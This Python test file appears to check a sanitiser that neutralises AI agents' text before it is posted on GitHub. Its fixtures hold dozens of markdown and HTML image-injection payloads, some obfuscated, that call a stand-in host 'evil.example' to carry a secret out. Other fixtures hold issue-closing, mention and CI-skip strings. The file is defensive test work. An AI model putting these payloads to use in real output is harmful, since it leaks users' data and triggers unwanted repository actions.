"""Words of agents on GitHub: they call nobody, close nothing, and have nothing loaded, however they are written."""

import itertools
import random

import pytest
from markdown_it import MarkdownIt

from githubsync.services.verdicts import _text
from githubsync.wording import commit_title, in_line, quiet
from projects.models import Vote

Z = "\u200b"
GITHUB = MarkdownIt("gfm-like", {"linkify": False, "html": True})
EVIL = "https://evil.example/p.png?d=secret"
PICTURES = (
    f"![x]({EVIL})",
    f"![]({EVIL})",
    f"![a [b] ![c]({EVIL}) d]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f'![x\ny](<{EVIL}> "a\ntitle")',
    f"![x][y]\n\n[y]: {EVIL}",
    f"![y]\n\n[y]: {EVIL}",
    f"!<!-- -->[x]({EVIL})",
    f"!\u200b\ufe0f[x]({EVIL})",
    f"\\\\![x]({EVIL})",
    f"&#33;[x]({EVIL}) !&#91;x]({EVIL}) !![x]({EVIL})",
    f"![~~~]({EVIL})",
    f"<img src='{EVIL}'>",
    f"<<b>img src='{EVIL}'>",
    f"<IMG\nSRC='{EVIL}'\n>",
    f"<picture><source srcset='{EVIL}'></picture>",
    f"<!DOCTYPE x><?php <svg/onload=x><image href='{EVIL}'/>",
    f"<im<!-- -->g src='{EVIL}'>",
    f"<\u200bimg src='{EVIL}'>",
    f"``` ![x]({EVIL})",
    "```mermaid\ngraph TD\n```",
    "~~~ &#109;ermaid\ngraph TD\n~~~",
)
AROUND = (
    "",
    "- ",
    "> ",
    "1. ",
    "   ",
    "    ",
    "\t",
    "* ```\n",
    "  ```\n",
    "> ~~~\n",
    "```\n",
    "~~~~\n",
    "`",
    "``",
    "$$\n",
    "[^1]: ",
)
AFTER = ("", "\n```", "\n  ```\n", "\n```\u00a0\n", "\n~~~~", "`", "\n````\n```", "\n\n```py\nx\n", "\n<!--")


def loaded(text):
    """Return what a page that shows ``text`` loads or draws."""
    found = []
    for token in GITHUB.parse(text):
        for each in [token, *(token.children or ())]:
            if each.type in ("image", "html_block", "html_inline"):
                found.append((each.type, each.content))
            if each.type == "fence" and each.info.strip() in ("mermaid", "geojson"):
                found.append((each.type, each.info))
    return found


def variants():
    yield from ("".join(parts) for parts in itertools.product(AROUND, PICTURES, AFTER))
    chance = random.Random(7)
    for _ in range(3000):
        parts = chance.choices(AROUND + PICTURES + AFTER + ("\n", "\n\n", "x", " "), k=chance.randint(2, 7))
        yield "".join(parts)


def test_nothing_is_loaded_however_it_is_written_and_whatever_stands_before_and_after():
    assert all(loaded(text) for text in (PICTURES[0], f"<img src='{EVIL}'>", "```mermaid\nx\n```"))
    before = ""
    for text in variants():
        told = quiet(text)
        assert loaded(told) == [], text
        assert loaded(f"{quiet(before)}\n\n{told}\n\n- {in_line(text)}\n\n{told}") == [], (before, text)
        before = text


def test_a_finding_brings_nothing_in_by_its_place_nor_by_what_stands_before_its_words():
    for path, said in itertools.product(("a.py", f"a\n\n![x]({EVIL})"), variants_of_two()):
        findings = [{"path": path, "line": 1, "comment": words} for words in said]
        assert loaded(_text("**It**", Vote(summary=said[0]), findings, "")) == [], findings


def variants_of_two():
    chance = random.Random(11)
    rows = list(itertools.islice(variants(), 0, None, 7))
    return [chance.sample(rows, 2) for _ in range(300)]


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("ask @ada and a@b.org", f"ask @{Z}ada and a@b.org"),
        ("fixes #12, GH-3, o/r#4", f"fixes #{Z}12, GH-{Z}3, o/r#{Z}4"),
        ("Resolves: https://github.com/o/r/issues/1", f"Resolves{Z}: https://github.com/o/r/issues/1"),
        ("see <!-- mcc:status:1 --> # Title", "see  # Title"),
        ("[skip ci] x [CI-Skip] ***NO_CI***", f"[{Z}skip ci] x [{Z}CI-Skip] ***NO_{Z}CI***"),
        ("skip-checks: true", f"skip-{Z}checks: true"),
        (f"See ![the plan]({EVIL}).", f"See the plan `{EVIL}`."),
        ("a < b, <https://x.org> [x](https://x.org)", f"a < b, <{Z}https://x.org> [x](https://x.org)"),
        ("```rust\nvec![1] <T>\n```\n", "```rust\nvec![1] <T>\n```"),
        ("````\n```\n![1]\n````\n<b>", f"````\n```\n![1]\n````\n<{Z}b>"),
        ("```suggestion\nx = a<b>()", "```suggestion\nx = a<b>()\n```"),
    ],
)
def test_words_of_agents_are_nothing_but_words_and_code_stays_code(said, told):
    assert quiet(said) == told


def test_the_number_of_its_own_pull_request_stays_in_the_title_of_a_merge():
    assert commit_title("Close #1 [skip ci] (#2)") == f"Close #{Z}1 [{Z}skip ci] (#2)"
